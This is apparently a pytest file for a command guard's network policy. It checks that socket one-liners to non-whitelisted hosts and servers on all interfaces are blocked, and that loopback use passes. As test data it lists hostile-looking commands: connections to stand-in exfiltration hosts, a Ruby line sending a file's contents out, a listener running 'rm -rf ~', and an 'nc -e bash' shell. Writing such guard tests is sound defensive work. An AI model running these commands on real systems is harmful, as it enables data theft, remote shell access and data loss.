"""Sockets opened from interpreter code reach only the whitelist, and a server on every
interface is refused unattended: the network policy (issue 30, round 6a).

Every case is data handed to the guard; none is run. Cases are written for the class, not
copied from the peers' corpora.
"""

from __future__ import annotations

import pytest

from tests.guards.test_bash import check

CONNECTS_OUTSIDE_THE_WHITELIST = [
    "python3 -c 'import socket; s=socket.create_connection((\"203.0.113.7\", 9000))'",
    "python3 -c 'import socket; socket.socket().connect((\"exfil.example.net\", 443))'",
    'ruby -rsocket -e \'TCPSocket.new("198.51.100.2", 7000).puts(File.read("x"))\'',
    "php -r '$f = fsockopen(\"collector.example.org\", 80);'",
    'node -e \'require("net").connect(9000, "192.0.2.44")\'',
    "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => \"192.0.2.9:25\")'",
    'awk \'BEGIN { print "x" |& "/inet/tcp/0/203.0.113.5/80" }\'',
]


@pytest.mark.parametrize("command", CONNECTS_OUTSIDE_THE_WHITELIST)
def test_code_opening_a_socket_outside_the_whitelist_is_refused_as_policy(command: str) -> None:
    for unattended in (False, True):
        verdict = check(command, unattended=unattended)
        assert verdict.blocked and verdict.rule == "network-not-whitelisted", (command, verdict)
        assert verdict.category == "policy"


SERVES_EVERY_INTERFACE = [
    "nc -lk 9001",
    "ncat --listen 9001 --keep-open",
    "socat TCP-LISTEN:9001,fork -",
    "php -S 0.0.0.0:8080 -t public",
    "python3 -m http.server 9000 --directory docs",
    "ruby -run -e httpd . -p 8000",
    "busybox httpd -f -p 8080 -h ./public",
    "python3 -c 'import socketserver as s; s.TCPServer((\"\", 9), H).serve_forever()'",
    'node -e \'require("http").createServer((q, r) => r.end("ok")).listen(8080)\'',
    "awk 'BEGIN { while ((\"/inet/tcp/9001/0/0\" |& getline l) > 0) print l }'",
]


@pytest.mark.parametrize("command", SERVES_EVERY_INTERFACE)
def test_a_server_on_every_interface_is_refused_unattended_as_policy(command: str) -> None:
    verdict = check(command, unattended=True)
    assert verdict.blocked and verdict.rule == "network-listen", (command, verdict)
    assert verdict.category == "policy" and "policy" in (verdict.reason or "")
    assert check(command).rule != "network-listen"


def test_a_listener_that_runs_a_shell_for_each_connection_is_checked_in_both_modes() -> None:
    for unattended in (False, True):
        verdict = check("ncat -l 9001 --sh-exec 'rm -rf ~'", unattended=unattended)
        assert verdict.blocked
    assert check("nc -l -p 9001 -e bash", unattended=True).rule == "interactive-shell"


LOCAL_SERVERS_AND_CLIENTS = [
    "python3 -m http.server --bind 127.0.0.1 8000",
    "php -S localhost:8000 -t public",
    "busybox httpd -f -p 127.0.0.1:8080 -h ./public",
    "nc -l 127.0.0.1 9001",
    "nc -z localhost 5432",
    'node -e \'require("http").createServer(h).listen(3000, "127.0.0.1")\'',
    "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 5432)).close()'",
    "python3 -c 'import socket; print(socket.gethostname())'",
]


@pytest.mark.parametrize("command", LOCAL_SERVERS_AND_CLIENTS)
def test_loopback_servers_and_local_sockets_pass_unattended(command: str) -> None:
    verdict = check(command, unattended=True)
    assert verdict.allowed, (command, verdict)
